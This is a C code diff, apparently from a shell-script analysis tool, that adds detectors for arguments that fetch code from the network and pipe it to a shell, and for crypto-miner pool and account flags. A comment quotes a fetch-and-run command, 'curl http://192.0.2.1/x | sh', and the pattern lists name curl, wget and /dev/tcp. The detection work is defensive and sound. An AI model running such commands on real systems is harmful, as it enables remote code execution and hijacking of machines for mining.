@@ -163,6 +163,41 @@ static bool function_call(struct call *call)
     return true;
 }
 
+/* A command line for somebody else's shell: "curl http://192.0.2.1/x | sh" as an argument. */
+static bool is_order(struct bytes text)
+{
+    static const char *const fetchers[] = {"curl ", "wget ", "/dev/tcp/"};
+    static const char *const runners[] = {"|sh", "| sh", "|bash", "| bash", "chmod ", "bash -c"};
+    bool fetches = false, runs = false;
+    for (size_t i = 0; i < sizeof fetchers / sizeof fetchers[0]; i++)
+        fetches |= bytes_find(text, bytes_of_string(fetchers[i]), 0) != BYTES_NPOS;
+    for (size_t i = 0; fetches && i < sizeof runners / sizeof runners[0]; i++)
+        runs |= bytes_find(text, bytes_of_string(runners[i]), 0) != BYTES_NPOS;
+    return fetches && runs && text.len < 4096;
+}
+
+void call_orders(struct call *call)
+{
+    for (uint32_t i = 1; i < call->count && i < 16; i++)
+        if (call_arg(call, i).len > 12 && is_order(call_arg(call, i)))
+            run_layer(call->m, call->arg[i], "argument", BYTES_NONE, false);
+}
+
+/* Mining is started with a pool, an account and nothing else to tell it by: -o HOST:PORT -u ACCOUNT. */
+static void miner_flags(struct call *call)
+{
+    bool pool = false, account = false;
+    for (uint32_t i = 1; i + 1 < call->count; i++) {
+        struct bytes option = call_arg(call, i), value = call_arg(call, i + 1);
+        size_t colon = bytes_find_last_byte(value, ':');
+        bool port = colon != BYTES_NPOS && colon + 1 < value.len && ascii_is_digit(value.at[colon + 1]);
+        pool |= (bytes_equal(option, BYTES("-o")) || bytes_equal(option, BYTES("--url"))) && port;
+        account |= bytes_equal(option, BYTES("-u")) || bytes_equal(option, BYTES("--user"));
+    }
+    if (pool && account)
+        sense(call->m, BEHAVIOUR_M1, ROLE_USED, call->name);
+}
+
 /* A program nobody here knows: a file of the script's own, a fetcher under another name, or just output. */
 static void unknown_run(struct call *call)
 {
@@ -180,6 +215,8 @@ static void unknown_run(struct call *call)
         if (call->arg[i].taint != 0 && call->out.taint == 0)
             call->out.taint = call->arg[i].taint, call->out.step = call->arg[i].step;
     }
+    miner_flags(call);
+    call_orders(call);
     if (memchr(call->path.at, '/', call->path.len) != NULL || file != NULL || call->path.at[0] == 0)
         execute_file(call, call->path, false);
 }
